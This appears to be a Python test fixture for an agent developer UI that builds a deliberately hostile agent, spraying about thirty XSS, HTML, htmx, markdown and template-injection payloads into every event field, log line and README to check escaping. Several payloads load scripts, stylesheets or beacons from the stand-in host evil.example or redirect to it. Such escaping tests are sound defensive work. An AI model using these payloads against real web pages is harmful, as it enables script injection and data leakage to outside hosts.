"""Hostile texts, and an agent that puts each of them into every field of its events (R16)."""

import json
from pathlib import Path

from tests.kit.server import write_app

PAYLOADS = [
    "<script>window.pwned=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=window.pwned=1>",
    '"><img src=http://evil.example/beacon.png>',
    "'\"><svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<iframe src=javascript:parent.pwned=1>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    '<a href="javascript:window.pwned=1" id=e-1>click</a>',
    "[click](javascript:window.pwned=1)",
    "![beacon](http://evil.example/beacon.png)",
    "<http://evil.example/auto> http://evil.example/plain",
    "[ref]: http://evil.example/ref 'x'",
    "```html onload=window.pwned=1",
    '<div hx-get="/evil" hx-trigger="load">x</div>',
    '<div data-hx-post="/evil" data-hx-trigger="load">x</div>',
    '<div hx-on:click="window.pwned=1" hx-sse:connect="/evil">x</div>',
    '<hx-partial hx-target="#rows" hx-swap="innerHTML">gone</hx-partial>',
    '</div></div></section><form action="/evil" method=post><button>x',
    '<template id="rows"></template><div id="messages">',
    '<meta http-equiv="refresh" content="0;url=/evil"><base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css"><style>*{display:none}</style>',
    "</textarea></title></pre></script><img src=x onerror=window.pwned=1>",
    "{{ 7 * 7 }} {% include 'base.html' %} ${7*7} <%= 7*7 %>",
    "&lt;img src=x onerror=window.pwned=1&gt; &#x3c;script&#x3e;",
    "data:\n\nevent: bye\ndata: <script>window.pwned=1</script>\n\n",
]

AGENT = """
import json, logging, pathlib
from google.genai import types
from devui.runtime.agents import BaseAgent
from devui.runtime.events import Event, EventActions

PAYLOADS = json.loads(pathlib.Path(__file__).with_name("payloads.json").read_text())

def parts_of(text):
    yield {"text": text}
    yield {"text": text, "thought": True}
    yield {"function_call": {"id": text, "name": text, "args": {text: [text, {text: text}]}}}
    yield {"function_response": {"id": text, "name": text, "response": {text: text}}}
    yield {"executable_code": {"code": text, "language": "PYTHON"}}
    yield {"code_execution_result": {"output": text, "outcome": "OUTCOME_OK"}}
    yield {"inline_data": {"data": b"x", "mime_type": text, "display_name": text}}
    yield {"file_data": {"file_uri": text, "mime_type": text, "display_name": text}}

class Hostile(BaseAgent):
    async def _run_async_impl(self, ctx):
        asked = ctx.user_content.parts[0].text
        text = PAYLOADS[int(asked.split()[-1])]
        def event(part=None, **more):
            content = types.Content(role="model", parts=[types.Part(**part)]) if part else None
            return Event(author=text, branch=text, invocation_id=ctx.invocation_id,
                         content=content, **more)
        print(text)
        logging.getLogger(text).warning("%s", text)
        yield event({"text": text}, partial=True)
        yield event({"text": text, "thought": True}, partial=True)
        for part in parts_of(text):
            yield event(part)
        changes = {text: text, "user:" + text: {text: text}, "app:" + text: [text]}
        yield event(actions=EventActions(state_delta=changes, artifact_delta={text: 0}))
        yield event(actions=EventActions(transfer_to_agent=text))
        yield event(error_code=text, error_message=text)
        raise RuntimeError(text)

root_agent = Hostile(name="hostile", description=" ".join(PAYLOADS))
"""
EVENTS = 12
"""The number of the agent's events per message."""


def write(agents: Path) -> None:
    """Write the apps `hostile`, where a message ends in the number of a payload, and `broken`."""
    file = write_app(agents, "hostile", AGENT)
    file.with_name("payloads.json").write_text(json.dumps(PAYLOADS), encoding="utf-8")
    blocks = "\n".join(f"```\n{text}\n```\n\n{text}\n" for text in PAYLOADS if "```" not in text)
    file.with_name("README.md").write_text(f"# {PAYLOADS[0]}\n\n## Example prompts\n\n{blocks}")
    code = f"raise RuntimeError({''.join(PAYLOADS)!r})\n"
    write_app(agents, "broken", code)
